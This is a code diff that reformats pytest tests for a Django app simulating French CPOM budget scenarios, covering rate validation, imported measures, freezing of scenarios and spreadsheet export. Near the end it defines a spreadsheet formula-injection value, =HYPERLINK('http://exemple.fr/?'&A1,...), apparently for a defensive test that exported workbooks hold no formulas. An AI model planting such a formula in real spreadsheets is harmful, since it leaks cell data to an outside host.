@@ -28,24 +28,44 @@ def budget(association_contract):
     ime = association_contract.establishments.get(category="IME")
     mas = association_contract.establishments.get(category="MAS")
     lines = [
-        (ime, "ars_am", "expense", 1, "200000"), (ime, "ars_am", "expense", 2, "700000"), (ime, "ars_am", "expense", 3, "100000"),
-        (ime, "ars_am", "income", 1, "960000"), (ime, "other", "income", 2, "30000"), (ime, "other", "income", 3, "20000"),
-        (mas, "ars_am", "expense", 1, "300000"), (mas, "ars_am", "expense", 2, "1400000"), (mas, "ars_am", "expense", 3, "200000"),
-        (mas, "ars_am", "income", 1, "2000000"), (mas, "other", "income", 2, "20000"),
+        (ime, "ars_am", "expense", 1, "200000"),
+        (ime, "ars_am", "expense", 2, "700000"),
+        (ime, "ars_am", "expense", 3, "100000"),
+        (ime, "ars_am", "income", 1, "960000"),
+        (ime, "other", "income", 2, "30000"),
+        (ime, "other", "income", 3, "20000"),
+        (mas, "ars_am", "expense", 1, "300000"),
+        (mas, "ars_am", "expense", 2, "1400000"),
+        (mas, "ars_am", "expense", 3, "200000"),
+        (mas, "ars_am", "income", 1, "2000000"),
+        (mas, "other", "income", 2, "20000"),
     ]
-    BudgetLine.objects.bulk_create([
-        BudgetLine(budget=budget, establishment=e, funder=f, side=s, group=g, amount=D(a)) for e, f, s, g, a in lines
-    ])
+    BudgetLine.objects.bulk_create(
+        [BudgetLine(budget=budget, establishment=e, funder=f, side=s, group=g, amount=D(a)) for e, f, s, g, a in lines]
+    )
     return budget
 
 
 def _post(**overrides) -> dict:
     """The worked example's assumptions as a person types them."""
     data = {
-        "name": "Taux régional", "convergence_target": "47 000", "convergence_years": "3", "surplus_rule": "reserves",
-        "deficit_rule": "reserve", "opening_reserves": "10 000,00", "read_as": "",
-        "envelope_rate_0": "1", "envelope_rate_1": "0", "envelope_rate_2": "", "envelope_rate_3": "0,5", "envelope_rate_4": "",
-        "expense_rate_0": "1", "expense_rate_1": "0.5", "expense_rate_2": "", "expense_rate_3": "2", "expense_rate_4": "",
+        "name": "Taux régional",
+        "convergence_target": "47 000",
+        "convergence_years": "3",
+        "surplus_rule": "reserves",
+        "deficit_rule": "reserve",
+        "opening_reserves": "10 000,00",
+        "read_as": "",
+        "envelope_rate_0": "1",
+        "envelope_rate_1": "0",
+        "envelope_rate_2": "",
+        "envelope_rate_3": "0,5",
+        "envelope_rate_4": "",
+        "expense_rate_0": "1",
+        "expense_rate_1": "0.5",
+        "expense_rate_2": "",
+        "expense_rate_3": "2",
+        "expense_rate_4": "",
     }
     data.update(overrides)
     return data
@@ -58,16 +78,32 @@ def _base(contract) -> str:
 @pytest.fixture
 def worked(budget, users):
     """The worked example saved as a scenario, with its measure at the IME from N+2."""
-    scenario = scenarios.save_scenario(budget, users["asso"], {
-        "name": "Taux régional", "envelope_rates": {0: D("1"), 1: D("0"), 3: D("0.5")},
-        "expense_rates": {0: D("1"), 1: D("0.5"), 3: D("2")}, "convergence_target": D("47000"), "convergence_years": 3,
-        "surplus_rule": "reserves", "deficit_rule": "reserve", "opening_reserves": D("10000"),
-    })
+    scenario = scenarios.save_scenario(
+        budget,
+        users["asso"],
+        {
+            "name": "Taux régional",
+            "envelope_rates": {0: D("1"), 1: D("0"), 3: D("0.5")},
+            "expense_rates": {0: D("1"), 1: D("0.5"), 3: D("2")},
+            "convergence_target": D("47000"),
+            "convergence_years": 3,
+            "surplus_rule": "reserves",
+            "deficit_rule": "reserve",
+            "opening_reserves": D("10000"),
+        },
+    )
     ime = budget.contract.establishments.get(category="IME")
-    scenarios.add_measure(scenario, users["asso"], {
-        "establishment": ime, "label": "Chargé de parcours", "start_year": 2,
-        "managing_body_means": D("6000"), "authority_means": D("9000"),
-    })
+    scenarios.add_measure(
+        scenario,
+        users["asso"],
+        {
+            "establishment": ime,
+            "label": "Chargé de parcours",
+            "start_year": 2,
+            "managing_body_means": D("6000"),
+            "authority_means": D("9000"),
+        },
+    )
     return scenario
 
 
@@ -84,14 +120,19 @@ def test_a_scenario_typed_the_french_way_is_saved_and_simulated(client_for, budg
     assert euros("116 554,99") in body
     assert 'data-testid="money-chart"' in body and 'data-testid="reserves-chart"' in body
     assert body.count("<polyline") == 2 and body.count("<rect") == 5
-    assert AuditEntry.objects.filter(object_type="finance.scenario", object_id=str(scenario.pk), action="Scénario créé").exists()
+    assert AuditEntry.objects.filter(
+        object_type="finance.scenario", object_id=str(scenario.pk), action="Scénario créé"
+    ).exists()
 
 
-@pytest.mark.parametrize("typed, message", [
-    ("12", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : 12\xa0% est hors limites."),
-    ("-10,5", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : −10,5\xa0% est hors limites."),
-    ("un peu", "Taux des dépenses N+2 : « un peu » n&#x27;est pas un taux : écrivez par exemple 1,2 ou −0,5."),
-])
+@pytest.mark.parametrize(
+    "typed, message",
+    [
+        ("12", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : 12\xa0% est hors limites."),
+        ("-10,5", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : −10,5\xa0% est hors limites."),
+        ("un peu", "Taux des dépenses N+2 : « un peu » n&#x27;est pas un taux : écrivez par exemple 1,2 ou −0,5."),
+    ],
+)
 def test_a_bad_rate_says_why_in_french_and_saves_nothing(client_for, budget, typed, message):
     response = client_for("asso").post(f"{_base(budget.contract)}nouveau/", _post(expense_rate_2=typed))
     assert response.status_code == 200
@@ -124,17 +165,27 @@ def test_an_edit_over_someone_elses_change_is_refused(client_for, worked):
 
 
 def test_the_scenarios_compare_side_by_side(client_for, worked, budget, users):
-    scenarios.save_scenario(budget, users["ars"], {
-        "name": "Taux zéro", "envelope_rates": {0: D("0")}, "expense_rates": {}, "convergence_target": None,
-        "convergence_years": 3, "surplus_rule": "investment", "deficit_rule": "carry_forward", "opening_reserves": D("0"),
-    })
+    scenarios.save_scenario(
+        budget,
+        users["ars"],
+        {
+            "name": "Taux zéro",
+            "envelope_rates": {0: D("0")},
+            "expense_rates": {},
+            "convergence_target": None,
+            "convergence_years": 3,
+            "surplus_rule": "investment",
+            "deficit_rule": "carry_forward",
+            "opening_reserves": D("0"),
+        },
+    )
     body = client_for("cd44").get(_base(budget.contract)).content.decode()
     assert "Taux régional" in body and "Taux zéro" in body
     # At zero rates the envelope stays 960 000 + 2 000 000 every year: 14 800 000 over five years.
     assert euros("2 960 000,00") in body and euros("14 800 000,00") in body
     # Worked example: 14 457 950,46 of envelope over the contract.
     assert euros("14 457 950,46") in body
-    chart = body[body.index('data-testid="envelope-comparison"'):]
+    chart = body[body.index('data-testid="envelope-comparison"') :]
     assert chart.count("<polyline") == 2
 
 
@@ -143,12 +194,26 @@ def test_new_measures_are_imported_from_the_agreed_fiches(client_for, budget, us
     operational = contract.objectives.get(level=Level.OPERATIONAL)  # agreed by every party, due in N+2
     ime, mas = contract.establishments.get(category="IME"), contract.establishments.get(category="MAS")
     operational.establishments.set([ime, mas])
-    ObjectiveSheet.objects.filter(objective=operational).update(managing_body_means=D("12000.01"), authority_means=D("18000"))
-    scenario = scenarios.save_scenario(budget, users["asso"], {
-        "name": "Avec mesures", "envelope_rates": {}, "expense_rates": {}, "convergence_target": None, "convergence_years": 3,
-        "surplus_rule": "reserves", "deficit_rule": "reserve", "opening_reserves": D("0"),
-    })
-    NewMeasure.objects.create(scenario=scenario, establishment=mas, label="Saisie à la main", start_year=0, authority_means=D("100"))
+    ObjectiveSheet.objects.filter(objective=operational).update(
+        managing_body_means=D("12000.01"), authority_means=D("18000")
+    )
+    scenario = scenarios.save_scenario(
+        budget,
+        users["asso"],
+        {
+            "name": "Avec mesures",
+            "envelope_rates": {},
+            "expense_rates": {},
+            "convergence_target": None,
+            "convergence_years": 3,
+            "surplus_rule": "reserves",
+            "deficit_rule": "reserve",
+            "opening_reserves": D("0"),
+        },
+    )
+    NewMeasure.objects.create(
+        scenario=scenario, establishment=mas, label="Saisie à la main", start_year=0, authority_means=D("100")
+    )
     client = client_for("ars")
     for _ in range(2):  # importing again replaces what was imported, and keeps what was typed
         response = client.post(f"{_base(contract)}{scenario.pk}/mesures/importer/", follow=True)
@@ -156,7 +221,9 @@ def test_new_measures_are_imported_from_the_agreed_fiches(client_for, budget, us
     imported = scenario.measures.filter(objective=operational).order_by("establishment__name")
     # 12 000,01 split in two: 6 000,01 for the first establishment, 6 000,00 for the last; 18 000 in 9 000 and 9 000.
     assert [(m.establishment, m.start_year, m.managing_body_means, m.authority_means) for m in imported] == [
-        (ime, 2, D("6000.01"), D("9000.00")), (mas, 2, D("6000.00"), D("9000.00"))]
+        (ime, 2, D("6000.01"), D("9000.00")),
+        (mas, 2, D("6000.00"), D("9000.00")),
+    ]
     assert scenario.measures.filter(objective=None).count() == 1
     assert euros("30 100,01") in response.content.decode()
 
@@ -167,13 +234,26 @@ def test_a_fiche_naming_no_establishment_is_spread_over_the_perimeter(budget, us
     operational.establishments.clear()
     type(operational).objects.filter(pk=operational.pk).update(due_year=None)
     ObjectiveSheet.objects.filter(objective=operational).update(managing_body_means=None, authority_means=D("700"))
-    scenario = scenarios.save_scenario(budget, users["cd44"], {
-        "name": "Périmètre", "envelope_rates": {}, "expense_rates": {}, "convergence_target": None, "convergence_years": 3,
-        "surplus_rule": "reserves", "deficit_rule": "reserve", "opening_reserves": D("0"),
-    })
+    scenario = scenarios.save_scenario(
+        budget,
+        users["cd44"],
+        {
+            "name": "Périmètre",
+            "envelope_rates": {},
+            "expense_rates": {},
+            "convergence_target": None,
+            "convergence_years": 3,
+            "surplus_rule": "reserves",
+            "deficit_rule": "reserve",
+            "opening_reserves": D("0"),
+        },
+    )
     imported = scenarios.import_measures(scenario, users["cd44"])
     # Seven establishments, 100 € each from N (no due year); the establishments without budget lines join the simulation.
-    assert sorted((m.start_year, m.managing_body_means, m.authority_means) for m in imported) == [(0, D("0"), D("100.00"))] * 7
+    assert (
+        sorted((m.start_year, m.managing_body_means, m.authority_means) for m in imported)
+        == [(0, D("0"), D("100.00"))] * 7
+    )
     assert len(scenarios.run(scenario).trajectory.establishments) == 7
 
 
@@ -181,14 +261,26 @@ def test_a_measure_is_added_and_withdrawn_through_the_page(client_for, worked):
     url = f"{_base(worked.budget.contract)}{worked.pk}/mesures/"
     mas = worked.budget.contract.establishments.get(category="MAS")
     client = client_for("asso")
-    client.post(url, {"establishment": mas.pk, "label": "Astreinte de nuit", "start_year": 1,
-                      "managing_body_means": "12 500,50", "authority_means": "0"})
+    client.post(
+        url,
+        {
+            "establishment": mas.pk,
+            "label": "Astreinte de nuit",
+            "start_year": 1,
+            "managing_body_means": "12 500,50",
+            "authority_means": "0",
+        },
+    )
     measure = worked.measures.get(label="Astreinte de nuit")
     assert measure.managing_body_means == D("12500.50") and measure.start_year == 1
     response = client.post(f"{url}retirer/", {"mesure": measure.pk}, follow=True)
     assert "La mesure est retirée du scénario." in response.content.decode()
     assert not worked.measures.filter(label="Astreinte de nuit").exists()
-    actions = set(AuditEntry.objects.filter(object_id=str(worked.pk), object_type="finance.scenario").values_list("action", flat=True))
+    actions = set(
+        AuditEntry.objects.filter(object_id=str(worked.pk), object_type="finance.scenario").values_list(
+            "action", flat=True
+        )
+    )
     assert {"Mesure nouvelle ajoutée : Astreinte de nuit", "Mesure nouvelle retirée : Astreinte de nuit"} <= actions
 
 
@@ -252,7 +344,11 @@ def test_the_demo_scenarios_load_twice_to_the_same_three(budget):
     first = load_demo_scenarios(budget.contract)
     second = load_demo_scenarios(budget.contract)
     assert [s.pk for s in first] == [s.pk for s in second]
-    assert [s.name for s in second] == ["Taux régional 1,2 %", "Taux zéro deux ans puis 1 %", "Convergence vers la médiane"]
+    assert [s.name for s in second] == [
+        "Taux régional 1,2 %",
+        "Taux zéro deux ans puis 1 %",
+        "Convergence vers la médiane",
+    ]
     # The demo's agreed, funded fiches with means give the measures; the MAS (50 000 a place) is the one to converge.
     assert all(s.measures.exists() for s in second)
     assert second[2].convergence_target == D("48000")
@@ -271,16 +367,28 @@ def ready_for_signature(worked, ready_association_contract, users):
     return worked
 
 
-FROZEN = ("Le contrat est à l'état « Prêt pour signature » : les scénarios de trajectoire ne se modifient que pendant "
-          "le lancement, le diagnostic partagé et la négociation du contrat.")
+FROZEN = (
+    "Le contrat est à l'état « Prêt pour signature » : les scénarios de trajectoire ne se modifient que pendant "
+    "le lancement, le diagnostic partagé et la négociation du contrat."
+)
 
 
 def test_scenarios_are_frozen_once_the_contract_is_ready_for_signature(users, ready_for_signature):
     scenario = ready_for_signature
-    data = {"name": "Autre nom", "envelope_rates": {0: D("2")}, "expense_rates": {0: D("1")}, "convergence_target": D("47000"),
-            "convergence_years": 3, "surplus_rule": "reserves", "deficit_rule": "reserve", "opening_reserves": D("0")}
+    data = {
+        "name": "Autre nom",
+        "envelope_rates": {0: D("2")},
+        "expense_rates": {0: D("1")},
+        "convergence_target": D("47000"),
+        "convergence_years": 3,
+        "surplus_rule": "reserves",
+        "deficit_rule": "reserve",
+        "opening_reserves": D("0"),
+    }
     for write in (
-        lambda: scenarios.save_scenario(scenario.budget, users["asso"], data, scenario, scenarios.fingerprint(scenario)),
+        lambda: scenarios.save_scenario(
+            scenario.budget, users["asso"], data, scenario, scenarios.fingerprint(scenario)
+        ),
         lambda: scenarios.save_scenario(scenario.budget, users["ars"], {**data, "name": "Nouveau"}),
         lambda: scenarios.delete_scenario(scenario, users["asso"]),
         lambda: scenarios.remove_measure(scenario, users["asso"], scenario.measures.get().pk),
@@ -289,18 +397,24 @@ def test_scenarios_are_frozen_once_the_contract_is_ready_for_signature(users, re
             write()
         assert str(refused.value) == FROZEN
     scenario.refresh_from_db()
-    assert scenario.name == "Taux régional" and scenario.measures.count() == 1 and scenario.budget.scenarios.count() == 1
+    assert (
+        scenario.name == "Taux régional" and scenario.measures.count() == 1 and scenario.budget.scenarios.count() == 1
+    )
 
 
 def test_the_scenario_pages_say_it_is_frozen_and_refuse_the_edit(client_for, ready_for_signature):
     scenario = ready_for_signature
     client = client_for("asso")
     base = _base(scenario.budget.contract)
-    response = client.post(f"{base}{scenario.pk}/modifier/", _post(name="Autre nom", read_as=scenarios.fingerprint(scenario)))
+    response = client.post(
+        f"{base}{scenario.pk}/modifier/", _post(name="Autre nom", read_as=scenarios.fingerprint(scenario))
+    )
     assert response.status_code == 403 and FROZEN.replace("'", "&#x27;") in response.content.decode()
     assert client.get(f"{base}nouveau/").status_code == 403
-    notice = ("Contrat à l'état « Prêt pour signature » : les scénarios sont figés. Ils ne se modifient que pendant le "
-              "lancement, le diagnostic partagé et la négociation ; rouvrir la négociation permet de les reprendre.")
+    notice = (
+        "Contrat à l'état « Prêt pour signature » : les scénarios sont figés. Ils ne se modifient que pendant le "
+        "lancement, le diagnostic partagé et la négociation ; rouvrir la négociation permet de les reprendre."
+    )
     detail = client.get(f"{base}{scenario.pk}/").content.decode()
     assert "Modifier les hypothèses" not in detail and notice in detail
     listing = client.get(base).content.decode()
@@ -316,7 +430,10 @@ def test_budget_objectives_diagnostic_and_scenarios_are_open_in_the_same_states(
     from cpom.finance import rules
     from cpom.objectives import negotiation
 
-    objective = association_contract.objectives.filter(status="under_discussion").first() or association_contract.objectives.first()
+    objective = (
+        association_contract.objectives.filter(status="under_discussion").first()
+        or association_contract.objectives.first()
+    )
     for state in State.values:
         association_contract.state = state
         open_for = {
@@ -330,8 +447,13 @@ def test_budget_objectives_diagnostic_and_scenarios_are_open_in_the_same_states(
 
 
 def _formulas(workbook) -> list[str]:
-    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook for row in sheet.iter_rows() for cell in row
-            if cell.data_type == "f"]
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
 
 
 HYPERLINK = '=HYPERLINK("http://exemple.fr/?"&A1,"Cliquez ici")'
